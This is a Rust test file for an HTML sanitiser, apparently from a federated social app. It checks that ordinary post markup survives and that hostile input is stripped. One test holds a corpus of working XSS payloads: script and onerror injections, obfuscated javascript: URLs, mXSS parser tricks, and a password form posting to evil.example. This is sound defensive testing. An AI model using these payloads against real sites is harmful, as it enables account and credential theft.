//! HTML as other sites send it, friendly and hostile.

use super::*;

fn clean(html: &str) -> String {
    sanitise(html).into_string()
}

#[test]
fn what_a_post_is_made_of_stays() {
    let mention = "<p><span class=\"h-card\" translate=\"no\"><a href=\"https://b.example/@bob\" class=\"u-url mention\" \
                   rel=\"nofollow noopener noreferrer\">@<span>bob</span></a></span> hi<br>there</p>";
    assert_eq!(clean(mention), mention);
    assert_eq!(
        clean("<ol start=\"3\"><li value=\"4\">x</li></ol>"),
        "<ol start=\"3\"><li value=\"4\">x</li></ol>"
    );
    assert_eq!(clean("<ruby>明<rt>Ming</rt></ruby>"), "<ruby>明<rt>Ming</rt></ruby>");
    assert_eq!(clean("<p class=\"p-bw-fallback x\">Idea</p>"), "<p class=\"p-bw-fallback\">Idea</p>");
    assert_eq!(clean("<h2>Title</h2><p>x</p>"), "<p><strong>Title</strong></p><p>x</p>");
}

#[test]
fn what_is_not_taken_leaves_its_text() {
    assert_eq!(clean("<div><marquee>x</marquee></div>"), "x");
    assert_eq!(
        clean("<a href=\"javascript:alert(1)\">x</a>"),
        "<a rel=\"nofollow noopener noreferrer\">x</a>"
    );
    assert_eq!(
        clean("<a href=\"/relative\" target=\"_blank\">x</a>"),
        "<a rel=\"nofollow noopener noreferrer\">x</a>"
    );
    assert_eq!(clean("<p onclick=\"x()\" style=\"position:fixed\" id=\"a\">x</p>"), "<p>x</p>");
    assert_eq!(clean("<span class=\"btn mention admin\">x</span>"), "<span class=\"mention\">x</span>");
}

#[test]
fn hostile_html_is_harmless() {
    let corpus = [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<style>@import 'https://evil.example'</style>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href='https://a.example\" onmouseover=\"alert(1)'>x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<form action=\"https://evil.example\"><input name=password><button>ok</button></form>",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<h1 title=\"</h1><script>alert(1)</script>\">x</h1>",
        "<a href=\"https://a.example/<h1>\"onclick=alert(1)>x</a>",
        "<p><b><i><u>never closed",
        "</p></div></body></html><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<object data=x><embed src=y></object><video src=z onerror=alert(1)>",
    ];
    for html in corpus {
        let cleaned = clean(html);
        let tree = scraper::Html::parse_fragment(&cleaned);
        for element in tree.root_element().descendants().filter_map(scraper::ElementRef::wrap) {
            let name = element.value().name();
            assert!(name == "html" || TAGS.contains(&name), "{html} -> {cleaned}");
            for (attribute, value) in element.value().attrs() {
                assert!(
                    ["href", "class", "rel", "translate", "title", "start"].contains(&attribute),
                    "{html} -> {cleaned}"
                );
                let scheme = value.split(':').next().unwrap_or_default();
                assert!(attribute != "href" || SCHEMES.contains(&scheme), "{html} -> {cleaned}");
            }
        }
    }
}

#[test]
fn cleaning_twice_changes_nothing() {
    for html in [
        "<p>a &amp; b &lt;c&gt;</p>",
        "<h1>x</h1>",
        "<a href=\"https://a.example/?a=1&amp;b=2\">x</a>",
        "a < b",
    ] {
        let once = clean(html);
        assert_eq!(clean(&once), once);
    }
}

#[test]
fn a_deep_or_large_document_becomes_plain_text_quickly() {
    for piece in [
        "<div>",
        "<b>",
        "<b x=1><p>",
        "<a href=x>",
        "<table><tr><td>",
        "<",
        "<p>",
        "<svg>",
        "&lt;",
        "<!--",
        "<li><ul>",
        "<font color=1>",
        "x",
        "</p>",
        "<b></i>",
        "<b><p></b>",
        "<B x><a y></P>",
    ] {
        for length in [200_000, 1_000_000] {
            #[expect(clippy::disallowed_methods, reason = "this measures the machine")]
            let started = std::time::Instant::now();
            let cleaned = clean(&piece.repeat(length / piece.len()));
            assert!(cleaned.len() < 3_000_000);
            println!("{:?} for {piece:?}", started.elapsed());
            assert!(started.elapsed().as_secs() < 5, "{:?} for {piece:?}", started.elapsed());
        }
    }
    assert_eq!(clean(&format!("{}deep &lt;script&gt;", "<div>".repeat(200))), "<p>deep &lt;script&gt;</p>");
}
